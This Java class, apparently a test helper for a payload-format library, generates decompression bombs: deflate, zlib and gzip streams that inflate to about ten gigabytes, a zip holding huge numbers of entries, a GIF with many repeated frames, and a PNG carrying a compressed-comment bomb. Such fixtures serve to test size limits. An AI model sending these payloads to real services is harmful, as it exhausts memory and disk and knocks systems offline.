package io.topiary.core.payload.format;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small payloads that would become huge, made without ever being huge. */
final class Bombs {

    /** What each block becomes. */
    static final int BLOCK = 16 * 1024 * 1024;

    /** So many blocks become ten gigabytes. */
    static final int BLOCKS = 640;

    private static final int ADLER_MODULUS = 65_521;
    private static final byte[] LAST_BLOCK = {3, 0};

    private Bombs() {}

    /** Zeros, {@code blocks} times {@link #BLOCK} of them, as bare deflate (RFC 1951). */
    static byte[] deflate(int blocks) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] block = new byte[BLOCK / 100];
        deflater.setInput(new byte[BLOCK]);
        // a full flush ends the block at a whole byte and refers to nothing before it: it can be repeated
        int length = deflater.deflate(block, 0, block.length, Deflater.FULL_FLUSH);
        deflater.end();
        ByteBuffer bomb = ByteBuffer.allocate(blocks * length + LAST_BLOCK.length);
        for (int i = 0; i < blocks; i++) {
            bomb.put(block, 0, length);
        }
        return bomb.put(LAST_BLOCK).array();
    }

    /** The same as zlib (RFC 1950), checksum included. */
    static byte[] zlib(int blocks) {
        byte[] deflate = deflate(blocks);
        long sum = (long) blocks * BLOCK % ADLER_MODULUS << 16 | 1;
        return ByteBuffer.allocate(2 + deflate.length + Integer.BYTES)
                .putShort((short) 0x78DA)
                .put(deflate)
                .putInt((int) sum)
                .array();
    }

    /** The same as members of gzip (RFC 1952, section 2.2), one a block. */
    static byte[] gzip(int blocks) throws IOException {
        ByteArrayOutputStream member = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(member)) {
            out.write(new byte[BLOCK]);
        }
        ByteBuffer bomb = ByteBuffer.allocate(blocks * member.size());
        for (int i = 0; i < blocks; i++) {
            bomb.put(member.toByteArray());
        }
        return bomb.array();
    }

    /** {@code content} as gzip. */
    static byte[] gzipped(byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(bytes)) {
            out.write(content);
        }
        return bytes.toByteArray();
    }

    /** An archive of {@code entries} empty files, the first of which is named {@code first}. */
    static byte[] zip(String first, int entries) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setMethod(ZipOutputStream.STORED);
            for (int i = 0; i < entries; i++) {
                ZipEntry entry = new ZipEntry(i == 0 ? first : Integer.toString(i));
                entry.setSize(0);
                entry.setCrc(0);
                zip.putNextEntry(entry);
            }
        }
        return bytes.toByteArray();
    }

    /** {@code gif} with its picture {@code frames} times in it. */
    static byte[] frames(byte[] gif, int frames) {
        int first = firstFrame(gif);
        int length = gif.length - first - 1;
        ByteBuffer many = ByteBuffer.allocate(first + frames * length + 1);
        many.put(gif, 0, first);
        for (int i = 0; i < frames; i++) {
            many.put(gif, first, length);
        }
        return many.put(gif[gif.length - 1]).array();
    }

    /** Where the image descriptor of {@code gif} begins. */
    static int firstFrame(byte[] gif) {
        int at = 0;
        while (gif[at] != 0x2C) {
            at++;
        }
        return at;
    }

    /** {@code png} with a compressed comment (PNG, section 11.3.3.3) in front of its data. */
    static byte[] withComment(byte[] png, byte[] zlib) {
        byte[] head = {'z', 'T', 'X', 't', 'C', 'o', 'm', 'm', 'e', 'n', 't', 0, 0};
        CRC32 crc = new CRC32();
        crc.update(head);
        crc.update(zlib);
        int headerEnd = 33;
        return ByteBuffer.allocate(png.length + 8 + head.length + zlib.length)
                .put(png, 0, headerEnd)
                .putInt(head.length - 4 + zlib.length)
                .put(head)
                .put(zlib)
                .putInt((int) crc.getValue())
                .put(Arrays.copyOfRange(png, headerEnd, png.length))
                .array();
    }
}
